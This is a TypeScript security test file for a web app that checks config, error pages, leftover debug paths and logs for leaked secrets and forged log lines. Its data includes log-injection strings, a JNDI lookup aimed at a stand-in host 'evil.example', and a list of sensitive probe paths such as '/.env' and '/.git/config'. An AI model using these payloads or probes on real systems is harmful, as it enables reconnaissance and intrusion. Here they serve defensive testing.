/** A3, H5, H6, B2: what must not get out, by answers or by the log. */
import assert from 'node:assert/strict'
import { each, fine, holdsNoSecret, refused, type Sites, type Subject, secrets } from '../suite/case.ts'
import { apiToken, secretKey } from '../suite/site.ts'
import { loggedIn, passwords, Visitor } from '../suite/visitor.ts'

const lines = async ({ direct, proxied }: Sites) =>
  (await Promise.all([direct.log(), proxied.log()]))
    .join('')
    .split('\n')
    .filter((line) => line !== '')

/** Texts that would forge or break a line of the log. */
const forging: Record<string, string> = {
  'a line break': 'first\n{"level":60,"msg":"FORGED"}',
  'two kinds of line break': 'first\r\n{"level":60,"msg":"FORGED"}',
  'a carriage return': 'first\rFORGED',
  'the end of a text': '","level":60,"forged":"FORGED',
  'an escape that clears the screen': '\x1b[2JFORGED',
  'a control character of eight bits': '\x9b2JFORGED',
  'a NUL': 'a\0FORGED',
  'a line separator': 'first\u2028{"msg":"FORGED"}',
  'letters that run backwards': '\u202eDEGROF FORGED',
  'a format': '%s %d %j %o FORGED',
  'a lookup': '${jndi:ldap://evil.example/x} FORGED',
}

/** Addresses at which other frameworks and careless people leave something. */
const leftovers = [
  '/?__debugger__=yes&cmd=resource&f=debugger.js',
  '/console',
  '/__debug__/',
  '/_debug',
  '/server-status',
  '/actuator/env',
  '/metrics',
  '/.env',
  '/.git/config',
  '/package.json',
  '/app.ts',
  '/main.ts',
  '/app.log',
  '/templates/base.html',
  '/static/.env',
  '/instance/dewar.sqlite',
  '/gauntlet.sqlite',
  '/node_modules/',
  '/swagger.json',
  '/graphql',
]

export const privacy: Subject = {
  name: 'what must not get out',
  attacks: [
    {
      row: 'A3',
      what: 'the configuration shows no secret',
      async run({ direct }) {
        const answer = await direct.send('/config')
        fine(answer)
        const config = JSON.parse(answer.text)
        for (const name of ['SECRET_KEY', 'API_TOKEN']) {
          assert(name in config, `${name} is missing.`)
          assert.equal(typeof config[name], 'string')
          assert(config[name] !== secretKey && config[name] !== apiToken)
        }
        holdsNoSecret(answer)
      },
    },
    ...each(
      'H5',
      'an error that is nobody’s business',
      {
        'as a page': {},
        'as JSON': { Accept: 'application/json' },
        'as text': { Accept: 'text/plain' },
        'as a script asks': { 'X-Requested-With': 'XMLHttpRequest', Accept: '*/*' },
        'with debug asked for': { 'X-Debug': '1', Cookie: 'debug=1; XDEBUG_SESSION=1' },
      },
      async (fields, { direct }) => {
        for (const path of ['/boom', '/boom?debug=1']) {
          const answer = await direct.send(path, { fields })
          fine(answer, 500)
          assert.doesNotMatch(
            answer.text,
            /SECRET-IN-MESSAGE|db\.sqlite|\/srv|\.ts\b|node_modules|node:| at |Error:/,
          )
        }
      },
    ),
    ...each(
      'H5',
      'an error tells no version and no path',
      { '404': '/nowhere', '405': '/hook', '400': '/respond?header=%0a' },
      async (path, { direct }) => {
        const answer = await direct.send(path)
        refused(answer)
        assert.doesNotMatch(answer.text, /[Dd]ewar|[Nn]ode|\.ts\b|ERR_|\d+\.\d+\.\d+/)
      },
    ),
    ...each(
      'B2',
      'nothing is left lying at',
      Object.fromEntries(leftovers.map((path) => [path, path])),
      async (path, { direct }) => {
        const answer = await direct.send(path)
        if (path.startsWith('/?')) assert.doesNotMatch(answer.text, /debugger|traceback/i)
        else refused(answer)
      },
    ),
    ...each('H6', 'a message of the log with', forging, async (message, sites) => {
      fine(await sites.direct.send(`/log?message=${encodeURIComponent(message)}`))
      for (const line of await lines(sites)) {
        const { level, forged, msg } = JSON.parse(line)
        assert(level !== 60 && forged === undefined && msg !== 'FORGED')
        assert.doesNotMatch(line, /[\0-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]/)
      }
    }),
    ...each(
      'H6',
      'a line of the log by',
      {
        'a path': '/%0a%7b%22level%22:60,%22msg%22:%22FORGED%22%7d',
        'a host': '/',
        'a header': '/whoami',
      },
      async (path, sites) => {
        const host = path === '/' ? 'evil"level":60' : undefined
        await sites.direct.send(path, {
          ...(host === undefined ? {} : { host }),
          fields: { 'X-Tag': '","level":60,"x":"', Referer: '","level":60' },
        })
        for (const line of await lines(sites)) assert.notEqual(JSON.parse(line).level, 60)
      },
    ),
    {
      row: 'H6',
      what: 'a login leaves no password, cookie, token or key in the log',
      async run(sites) {
        const visitor = new Visitor(sites.proxied)
        await visitor.get('/counter')
        const fields = {
          ...visitor.sameOrigin(),
          Authorization: 'Bearer SECRET-BEARER',
          'Proxy-Authorization': 'Basic U0VDUkVULVBST1hZ',
          'X-API-Key': 'SECRET-API-KEY',
          'X-Auth-Token': 'SECRET-AUTH-TOKEN',
        }
        await visitor.submit('/login', 'login', { username: 'alice', password: passwords.alice }, fields)
        await visitor.submit('/login', 'login', { username: 'alice', password: 'SECRET-SLIP' }, fields)
        const log = (await lines(sites)).join('\n')
        assert.match(log, /login attempt/)
        assert.match(log, /alice/)
        const cookie = visitor.cookies.get('__Host-session') ?? 'x'
        const found = [
          'SECRET-BEARER',
          'U0VDUkVULVBST1hZ',
          'SECRET-API-KEY',
          'SECRET-AUTH-TOKEN',
          'SECRET-SLIP',
          cookie,
        ]
        for (const secret of [...found, ...Object.values(passwords), secretKey, apiToken])
          assert(!log.includes(secret), `The log holds ${secret}.`)
      },
    },
    {
      row: 'H6',
      what: 'a reset leaves no token in the log',
      async run(sites) {
        const visitor = new Visitor(sites.proxied)
        await visitor.submit('/reset', 'reset', { username: 'carol' })
        const mails: { link: string }[] = JSON.parse((await visitor.get('/outbox')).text)
        const token = mails.at(-1)?.link.split('/').at(-1) ?? ''
        await visitor.get(`/reset/${token}`)
        assert(token.length > 40)
        assert(!(await lines(sites)).join('\n').includes(token))
      },
    },
    {
      row: 'H6',
      what: 'a query leaves nothing in the log',
      async run(sites) {
        await sites.direct.send('/search?q=SECRET-QUERY&password=SECRET-QUERY')
        assert(!(await lines(sites)).join('\n').includes('SECRET-QUERY'))
      },
    },
  ],
  honest: [
    {
      row: 'H5',
      what: 'the error’s message stands in the log, with its stack and the request’s id',
      async run(sites) {
        const answer = await sites.direct.send('/boom')
        const id = /Request (\w+)/.exec(answer.text)?.[1] ?? 'x'
        const line = (await lines(sites)).find(
          (text) => text.includes(id) && text.includes('SECRET-IN-MESSAGE'),
        )
        assert.match(line ?? '', /"stack"/)
      },
    },
    {
      row: 'A3',
      what: 'the configuration shows what is no secret',
      async run({ direct }) {
        const config = JSON.parse((await direct.send('/config')).text)
        assert.equal(config.APP_NAME, 'Gauntlet')
        assert.deepEqual(config.TRUSTED_HOSTS, ['gauntlet.example', '127.0.0.1', 'localhost'])
      },
    },
    {
      row: 'H6',
      what: 'a message of the log arrives as it was',
      async run(sites) {
        const message = "O'Brien & Söhne <3 {{ braces }} 🍵"
        const answer = await sites.direct.send(`/log?message=${encodeURIComponent(message)}`)
        assert.equal(answer.text, 'logged')
        assert((await lines(sites)).some((line) => JSON.parse(line).msg === message))
      },
    },
    {
      row: 'H6',
      what: 'what is logged of a login names who, and where from',
      async run(sites) {
        await loggedIn(sites.proxied, 'bob')
        const line = (await lines(sites)).find(
          (text) => text.includes('login attempt') && text.includes('bob'),
        )
        const { form, headers } = JSON.parse(line ?? '{}')
        assert.equal(form.username, 'bob')
        assert.equal(headers.Host, 'gauntlet.example')
      },
    },
    {
      row: 'A3',
      what: 'there are secrets to be found',
      async run() {
        assert(secrets.includes(secretKey) && secrets.includes(apiToken))
      },
    },
  ],
}
